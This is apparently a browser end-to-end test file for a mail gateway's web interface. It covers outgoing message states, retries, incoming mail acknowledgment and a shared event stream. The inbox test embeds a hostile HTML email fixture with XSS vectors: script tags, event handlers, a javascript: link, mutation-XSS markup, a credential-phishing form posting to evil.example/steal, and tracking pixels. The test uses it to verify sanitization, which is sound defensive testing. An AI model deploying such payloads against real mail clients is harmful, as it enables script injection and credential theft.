// SPDX-License-Identifier: Apache-2.0
// tests/run: timeout=300 jobs=2
// Messages: states that move while one looks, what can be done with them, what arrives, HTML that can do nothing; and the events
// behind it, one stream for all tabs.
import { accessible, diag, done, goTo, is, logIn, ok, openPage, shot, startBrowser, startStack, story } from "./lib.mjs";

const browser = await startBrowser();
const stack = await startStack();
const { page, faults, context } = await openPage(browser, stack.url);

const message = page.locator(".message");
const row = (subject) => page.locator("tbody tr[data-message]").filter({ has: page.getByRole("link", { name: subject, exact: true }) });
const button = (name) => message.getByRole("button", { name, exact: true });
const post = async (account, json) => (await stack.api("POST", `/accounts/${account}/messages`, { from: "plant@example.test", to: [stack.to], text: "Pressure high.", ...json })).json;
const state = (text) => message.locator(".state").getByText(text, { exact: false }).first().waitFor();
const streams = { open: 0, polls: 0 };

function listen(where) {
    where.on("request", (request) => {
        const path = new URL(request.url()).pathname;
        if (path === "/api/v1/events")
            streams.open++;
        else if (path === "/api/v1/tree")
            streams.polls++;
    });
}

async function prepare() {
    const login = { type: "basic", username: stack.user, password: stack.userPassword };
    const office = { type: "basic", username: "office", password: stack.passwords.office };
    await stack.api("POST", "/accounts", { name: "alerts", type: "OutgoingAccount", hostname: "localhost", port: stack.smtp.starttls, useStartTls: true, emailAuthenticator: login });
    await stack.api("POST", "/accounts", { name: "nowhere", type: "OutgoingAccount", hostname: "127.0.0.1", port: 9, emailAuthenticator: { type: "none" } });
    await stack.api("POST", "/accounts", { name: "inbox", type: "IncomingAccount", transport: "imap", hostname: "localhost", port: stack.imap.imaps, useSsl: true, pollrate: 2, emailAuthenticator: office });
    for (const [name, port] of [["alerts", stack.smtp.starttls], ["inbox", stack.imap.imaps]]) {
        await stack.api("POST", `/accounts/${name}/actions/verify`, {});
        const id = `localhost:${port}`;
        const { json } = await stack.api("GET", `/trust/allowed-hosts/${id}`);
        await stack.api("POST", `/trust/allowed-hosts/${id}/actions/approve`, { sha256: json.certificate.sha256 });
    }
    listen(page);
    await logIn(page, stack);
}

/* Paused, so that each state stands still while it is looked at. */
async function outbox() {
    await stack.api("POST", "/accounts/alerts/actions/pause", {});
    await goTo(page, "#/accounts/alerts/messages", ".empty");
    await page.getByText("No messages yet").waitFor();
    const { id } = await post("alerts", { subject: "Boiler 3", to: [stack.to, "unknown@example.test"] });
    await row("Boiler 3").getByText("queued").waitFor();
    ok(true, "what is posted appears while one looks");
    await row("Boiler 3").getByRole("link").click();
    await state("queued");
    await button("Hold").click();
    await state("held");
    await row("Boiler 3").getByText("held").waitFor();
    ok(true, "Hold, in the message and in the list");
    await shot(page, "held");
    await accessible(page, "a message that is held");
    await button("Release").click();
    await state("queued");
    await post("alerts", { subject: "Not to be sent" });
    await row("Not to be sent").getByRole("link").click();
    await button("Cancel message").click();
    await state("canceled");
    is(await message.getByRole("button", { name: /Hold|Retry|Release/ }).count(), 0, "what is canceled can be nothing else any more");
    await row("Boiler 3").getByRole("link").click();
    await stack.api("POST", "/accounts/alerts/actions/resume", {});
    await row("Boiler 3").getByText("sent").waitFor();
    await state("sent");
    ok((await stack.ask({ do: "delivered", user: "office", subject: "Boiler 3" })).delivered, "sent, and the state moved while one looked");
    await message.getByText(/^250 /).waitFor();
    ok(/550.*unknown/is.test(await message.locator("table").innerText()), "each recipient with what the server said");
    await button("Text").click();
    await message.getByText("Pressure high.").waitFor();
    await button("Raw").click();
    await message.locator(".raw").getByText("Subject: Boiler 3").waitFor();
    ok(true, "the text, and the raw message");
    await shot(page, "sent");
    await page.locator(".charts figure").first().getByText("Sent, 24 h 1").waitFor();
    ok(true, "counted in the picture of the day");
    await page.keyboard.press("Escape");
    is((await stack.api("GET", `/messages/${id}`)).json.state, "sent", "as the server has it");
}

async function failures() {
    await post("nowhere", { subject: "Into the void" });
    await goTo(page, "#/accounts/nowhere/messages", "tbody tr");
    await row("Into the void").getByText("deferred").waitFor();
    await row("Into the void").getByRole("link").click();
    await message.getByText("next").waitFor();
    ok((await message.locator(".cause").innerText()).length > 10, "deferred: when it is tried next, and why");
    await button("Retry").click();
    await state("queued");
    ok(true, "Retry puts it first again, as soon as the account tries its server");
    await button("Cancel message").click();
    await state("canceled");
    await page.getByLabel("State").selectOption("deferred");
    await page.getByText("No message is like that.").waitFor();
    await page.getByLabel("State").selectOption("canceled");
    await row("Into the void").waitFor();
    ok(true, "the list by state");
}

const evil = `From: Mallory <mallory@example.test>
To: office@example.test
Subject: =?utf-8?Q?You_have_won_=F0=9F=8E=89?=
Date: Thu, 26 Nov 2026 10:00:00 +0000
Message-ID: <evil-1@example.test>
MIME-Version: 1.0
Content-Type: multipart/related; boundary=b

--b
Content-Type: text/html; charset=utf-8

<html><head><style>body{background:url(https://evil.example/bg.png)}</style><script>window.top.pwned = 1</script><base href="https://evil.example/"></head>
<body style="background-color:#fef6e4;background-image:url(https://evil.example/b.png);position:fixed" onload="top.pwned=2">
<h1 style="color:#0b5c66;position:fixed;top:0">Hello</h1>
<p onclick="top.pwned=3">Read <a href="https://evil.example/track?u=1" target="_top">this</a> and <a href="javascript:top.pwned=4">that</a>.</p>
<img src="https://evil.example/pixel.gif" width="1" height="1" alt="a picture from elsewhere"><img src="/api/v1/session" alt=""><img src="cid:logo@x" alt="the logo">
<form action="https://evil.example/steal"><input name="password" type="password"><button>Log in</button></form>
<iframe src="https://evil.example/"></iframe><svg onload="top.pwned=5"><script>top.pwned=6</script></svg><object data="https://evil.example/x"></object>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><table><tr><td style="padding:8px;border:1px solid #ccc">In a <b>table</b></td></tr></table>
<img src=x onerror="top.pwned=7"><math><mtext><style><img src=x onerror="top.pwned=8"></style></mtext></math>
</body></html>
--b
Content-Type: image/png; name=logo.png
Content-ID: <logo@x>
Content-Transfer-Encoding: base64
Content-Disposition: inline; filename="logo.png"

iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==
--b
Content-Type: text/html; name="open-me.html"
Content-Disposition: attachment; filename="open-me.html"

<script>alert(1)</script>
--b--
`;

async function inbox() {
    await goTo(page, "#/accounts/inbox/messages", ".list");
    await stack.ask({ do: "deliver", user: "office", raw: "From: machine@example.test\nTo: office@example.test\nSubject: Command 17\nMessage-ID: <c17@example.test>\n\nStart pump 4.\n" });
    await row("Command 17").waitFor();
    ok(true, "what arrives appears while one looks");
    await row("Command 17").getByRole("link").click();
    await message.getByText("Start pump 4.").waitFor();
    await message.getByText("not acknowledged yet").waitFor();
    await button("Acknowledge").click();
    await message.locator(".state").getByText("acknowledged", { exact: true }).waitFor();
    ok(true, "read, and acknowledged");
    await stack.ask({ do: "deliver", user: "office", raw: evil });
    await row("You have won 🎉").getByRole("link").click();
    const frame = page.frameLocator(".message iframe");
    await frame.getByRole("heading", { name: "Hello" }).waitFor();
    await frame.getByText("In a table").waitFor();
    ok(true, "HTML is shown");
    is(await page.evaluate(() => [window.pwned, document.querySelector(".message iframe").getAttribute("sandbox")]), [undefined, "allow-same-origin"], "and runs nothing");
    const left = await frame.locator("body").evaluate((body) => body.ownerDocument.querySelectorAll("script, style, form, input, iframe, object, svg, math, meta, base, [onload], [onclick], [onerror], [href], [target], [style*=url], [style*=fixed]").length);
    is(left, 0, "nothing that could is left in it");
    await message.getByText("1 picture from elsewhere is not loaded").waitFor();
    ok(true, "what would be loaded from elsewhere is told and not loaded");
    is(await frame.locator("h1").evaluate((h) => [getComputedStyle(h).color, getComputedStyle(h).position]), ["rgb(11, 92, 102)", "static"], "looks are kept, places are not");
    await page.waitForFunction(() => document.querySelector(".message iframe").contentDocument.querySelector('img[src^="data:image/png"]'));
    ok(true, "a picture that came along is shown");
    await accessible(page, "HTML mail");
    await shot(page, "html");
    const download = page.waitForEvent("download");
    await message.getByRole("link", { name: "open-me.html" }).click();
    is((await download).suggestedFilename(), "open-me.html", "an attachment is saved, never opened here");
    await page.getByRole("button", { name: /^Acknowledge (this one|these)/ }).click();
    await page.locator(".notice").getByText("acknowledged").waitFor();
    await page.getByLabel("acknowledged", { exact: true }).selectOption("false");
    await page.getByText("No message is like that.").waitFor();
    ok(true, "all of them acknowledged at once");
    await page.getByLabel("acknowledged", { exact: true }).selectOption("");
    await page.getByRole("searchbox", { name: "Find words" }).fill("pump");
    await page.waitForFunction(() => document.querySelectorAll("tbody tr[data-message]").length === 1);
    await row("Command 17").waitFor();
    ok(true, "found by a word of its text");
}

async function everyAccount() {
    await goTo(page, "#/services/EmailService/messages", "tbody tr");
    await row("Not to be sent").getByText("alerts").waitFor();
    await row("Command 17").getByText("inbox").waitFor();
    await page.getByLabel("Direction").selectOption("incoming");
    await row("Not to be sent").waitFor({ state: "detached" });
    ok(true, "the messages of all accounts, by direction");
    await shot(page, "all");
}

async function oneStream() {
    const second = await context.newPage();
    listen(second);
    await second.goto(`${stack.url}/#/accounts/alerts/messages`);
    await second.locator("tbody tr").first().waitFor();
    const polls = streams.polls;
    await post("alerts", { subject: "Seen in both tabs" });
    for (const where of [second, page])
        await where.evaluate(() => { location.hash = "#/accounts/alerts/messages"; });
    for (const where of [second, page])
        await where.locator("tbody tr").filter({ hasText: "Seen in both tabs" }).filter({ hasText: "sent" }).waitFor();
    is(streams.open, 1, "two tabs, one stream");
    ok(streams.polls - polls < 4, "and what changes is told, not asked for every two seconds");
    await page.close();
    await post("alerts", { subject: "After the first tab was closed" });
    await second.locator("tbody tr").filter({ hasText: "After the first tab was closed" }).filter({ hasText: "sent" }).waitFor();
    ok(streams.open === 2, "the tab that read it is closed: the other reads on");
    await second.close();
}

/* A proxy that lets no stream through. */
async function polled() {
    const other = await openPage(browser, stack.url);
    await other.context.route("**/api/v1/events", (route) => route.abort());
    await other.page.reload();
    await logIn(other.page, stack);
    await goTo(other.page, "#/accounts/alerts/messages", "tbody tr");
    await post("alerts", { subject: "Seen without a stream" });
    await other.page.locator("tbody tr").filter({ hasText: "Seen without a stream" }).filter({ hasText: "sent" }).waitFor();
    ok(true, "without a stream, what changes is asked for");
    is(other.faults, [], "and nothing is wrong with that");
    await other.context.close();
}

try {
    await story(page, prepare, outbox, failures, inbox, everyAccount, polled, oneStream);
    if (!is(faults, [], "no console error, no CSP message, no request to another origin"))
        diag(faults.join("\n"));
} finally {
    await browser.close();
    is(await stack.stop(), 0, "postern and the servers ended as they should");
}
done();
